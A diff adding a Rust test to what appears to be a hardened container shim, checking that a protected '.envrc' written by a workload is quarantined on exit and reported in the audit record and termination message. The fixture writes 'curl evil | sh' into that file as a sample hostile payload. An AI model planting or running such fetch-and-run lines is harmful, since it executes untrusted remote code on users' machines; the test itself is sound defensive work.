@@ -309,3 +309,68 @@ async fn a_pod_stopped_at_its_limit_says_why_in_its_containers_termination_messa
     );
     bed.assert_clean();
 }
+
+/// What the workspace's exit did in a pod's volume is said in the container's
+/// termination-message file too (where `kubectl describe` shows it), beside its exit record:
+/// here a protected `.envrc` the workload created, set aside.
+#[tokio::test]
+async fn what_the_workspace_exit_set_aside_is_said_in_the_termination_message() {
+    let vol = tempfile::tempdir().unwrap();
+    let bed = Bed::with_policy(&format!(
+        "[mounts]\nwritable_sources = [\"{}/**\"]\nprotect = [\".envrc\"]\n",
+        vol.path().display()
+    ));
+    let pod_dir = bed.bundle("kubelet").join("pods/uid-1/containers/app");
+    std::fs::create_dir_all(&pod_dir).unwrap();
+    let message = pod_dir.join("0a1b2c3d");
+    std::fs::write(&message, "").unwrap();
+    let pod = [
+        (CRI_TYPE, "sandbox"),
+        (CRI_SANDBOX, "pod"),
+        ("io.kubernetes.cri.sandbox-uid", "uid-1"),
+    ];
+    bed.shim.create(bed.request("pod", &pod)).await.unwrap();
+    bed.shim.start("pod", "").await.unwrap();
+    let app = bed.request(
+        "app",
+        &[
+            (CRI_TYPE, "container"),
+            (CRI_SANDBOX, "pod"),
+            ("io.kubernetes.cri.sandbox-uid", "uid-1"),
+            ("io.kubernetes.cri.container-name", "app"),
+        ],
+    );
+    let config = bed.bundle("app").join("config.json");
+    let mut spec: Value = serde_json::from_slice(&std::fs::read(&config).unwrap()).unwrap();
+    let mounts = spec["mounts"].as_array_mut().unwrap();
+    mounts.push(json!({
+        "destination": "/dev/termination-log", "type": "bind", "source": message,
+        "options": ["rbind", "rw"],
+    }));
+    mounts.push(json!({
+        "destination": "/work", "type": "bind", "source": vol.path(), "options": ["rbind", "rw"],
+    }));
+    std::fs::write(&config, spec.to_string()).unwrap();
+    bed.shim.create(app).await.unwrap();
+    bed.shim.start("app", "").await.unwrap();
+    // What the workload does.
+    std::fs::write(vol.path().join(".envrc"), "curl evil | sh\n").unwrap();
+    bed.fake.exit("app", exited(0));
+    assert_eq!(bed.exit_status("app").await, 0);
+    assert!(!vol.path().join(".envrc").exists());
+    let exit = bed.audit_record("app", "exit");
+    assert_eq!(
+        exit["workspace"]["quarantined"].as_array().unwrap().len(),
+        1,
+        "{exit}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(&message).unwrap(),
+        "gvisor-hardened: workspace: 1 set aside; the exit record names each path\n"
+    );
+    bed.shim.delete("app", "").await.unwrap();
+    bed.fake.exit("pod", exited(0));
+    bed.exit_status("pod").await;
+    bed.shim.delete("pod", "").await.unwrap();
+    bed.assert_clean();
+}
